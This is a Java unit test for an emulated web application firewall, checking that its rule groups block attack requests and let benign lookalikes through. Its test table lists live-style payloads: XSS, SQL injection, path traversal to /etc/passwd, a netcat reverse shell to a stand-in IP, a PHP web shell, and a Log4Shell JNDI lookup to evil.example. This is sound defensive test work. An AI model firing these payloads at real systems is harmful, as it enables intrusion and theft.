package dev.powerpages.emulator.waf;

import static org.assertj.core.api.Assertions.assertThat;

import dev.powerpages.emulator.waf.catalog.ManagedRuleCatalog;
import dev.powerpages.emulator.waf.custom.GeoIpMap;
import dev.powerpages.emulator.waf.custom.RateLimiter;
import dev.powerpages.emulator.waf.engine.WafRequestParser;
import dev.powerpages.emulator.waf.policy.WafPolicy;
import dev.powerpages.emulator.waf.policy.WafPreset;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Each rule group of the Full preset: an attack it blocks, and a benign lookalike that passes. */
class ManagedRuleGroupsTest {

    static final ManagedRuleCatalog catalog = new ManagedRuleCatalog();

    static WafInspector inspector(WafPreset preset) {
        WafPolicy policy = preset.policy(catalog);
        WafPolicy enabled = EnabledPolicies.enabled(policy, "Prevention");
        return new WafInspector(enabled, catalog, new GeoIpMap(Map.of()), new RateLimiter());
    }

    static Verdict inspect(WafPreset preset, String method, String uri, String header, String body) {
        List<Map.Entry<String, String>> headers = new ArrayList<>(List.of(
                Map.entry("Host", "localhost"),
                Map.entry("User-Agent", "Mozilla/5.0 (Windows NT 10.0) Chrome/126.0"),
                Map.entry("Accept", "text/html")));
        if (!header.isEmpty()) {
            int colon = header.indexOf(':');
            String name = header.substring(0, colon);
            headers.removeIf(h -> h.getKey().equalsIgnoreCase(name));
            headers.add(Map.entry(name, header.substring(colon + 1).strip()));
        }
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        if (bytes.length > 0) {
            headers.add(Map.entry("Content-Type", "application/x-www-form-urlencoded"));
            headers.add(Map.entry("Content-Length", Integer.toString(bytes.length)));
        }
        var request = new WafRequestParser(128 * 1024).parse(method, uri, "HTTP/1.1", headers, bytes, "203.0.113.9");
        return inspector(preset).inspect(request, "203.0.113.9", Instant.now());
    }

    @ParameterizedTest(name = "{0}: {2} {3}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
			XSS                  | GET  | /?q=%3Cscript%3Ealert(1)%3C/script%3E                 |                                   |
			XSS                  | GET  | /?q=%3Cimg%20src=x%20onerror=alert(1)%3E               |                                   |
			XSS                  | POST | /comment                                             |                                   | text=%3Csvg%2Fonload%3Dalert(1)%3E
			XSS                  | GET  | /?u=javascript:alert(document.cookie)                 |                                   |
			SQLI                 | GET  | /?id=1'%20OR%20'1'='1                                  |                                   |
			SQLI                 | GET  | /?id=1%20UNION%20SELECT%20username,password%20FROM%20users |                               |
			SQLI                 | POST | /login                                               |                                   | user=admin'--&pass=x
			SQLI                 | GET  | /?id=1;WAITFOR%20DELAY%20'0:0:5'--                     |                                   |
			LFI                  | GET  | /?file=../../etc/passwd                               |                                   |
			LFI                  | GET  | /?file=..%2f..%2f..%2fwindows%2fwin.ini               |                                   |
			RFI                  | GET  | /?page=http://203.0.113.50/shell.txt?                 |                                   |
			RCE                  | GET  | /?host=127.0.0.1;cat%20/etc/passwd                    |                                   |
			RCE                  | GET  | /?cmd=%7C%20nc%20-e%20/bin/sh%20203.0.113.5%204444     |                                   |
			PHP                  | GET  | /?x=%3C?php%20system($_GET['c']);%20?%3E               |                                   |
			JAVA                 | GET  | /?x=$%7Bjndi:ldap://evil.example/a%7D                 |                                   |
			FIX                  | GET  | /?x=document.cookie%3D%22sid%3Dabc%3B%20domain%3Devil.example%22 |                        |
			PROTOCOL-ATTACK      | GET  | /?x=a%0d%0aSet-Cookie:%20s=1                           |                                   |
			PROTOCOL-ENFORCEMENT | GET  | /index.php.bak~                                        |                                   |
			BadBots              | GET  | /                                                    | User-Agent: sqlmap/1.7.2#stable    |
			""")
    void blocksAttacksOfEachGroup(String group, String method, String uri, String header, String body) {
        Verdict verdict = inspect(WafPreset.Full, method, uri, header == null ? "" : header, body == null ? "" : body);
        assertThat(verdict.decision()).as(verdict.findings().toString()).isEqualTo(Verdict.Decision.BLOCK);
        assertThat(verdict.findings()).extracting(Finding::group).contains(group);
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
			XSS      | /?q=%3Cp%3E%3Cstrong%3EHello%3C/strong%3E%20%3Ca%20href=%22https://contoso.com%22%3Elink%3C/a%3E%3C/p%3E
			XSS      | /?q=price%20%3C%20100%20and%20size%20%3E%2010
			SQLI     | /?q=O'Reilly%20and%20Sons
			SQLI     | /?q=please%20select%20a%20plan%20from%20the%20list
			SQLI     | /search/?q=where%20is%20my%20order%3F
			SQLI     | /_api/contacts?$filter=startswith(fullname,'O''Brien')%20and%20statecode%20eq%200&$select=fullname
			LFI      | /?path=/docs/guide/intro.html
			RFI      | /?returnUrl=%2Fsupport%2F
			RCE      | /?q=bash%20away%20in%20the%20gym
			JAVA     | /?q=java%20lang%20courses
			GoodBots | /?q=hello
			""")
    void letsBenignLookalikesThrough(String group, String uri) {
        String header = group.equals("GoodBots")
                ? "User-Agent: Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
                : "";
        Verdict verdict = inspect(WafPreset.Full, "GET", uri, header, "");
        assertThat(verdict.decision()).as(verdict.findings().toString()).isEqualTo(Verdict.Decision.PASS);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
			/?id=1'%20OR%20'1'='1
			/?id=1%20UNION%20SELECT%20username,password%20FROM%20users
			""")
    void powerPagesPresetHasNoSqlInjectionGroup(String uri) {
        Verdict verdict = inspect(WafPreset.PowerPages, "GET", uri, "", "");
        assertThat(verdict.findings()).extracting(Finding::group).doesNotContain("SQLI");
    }
}
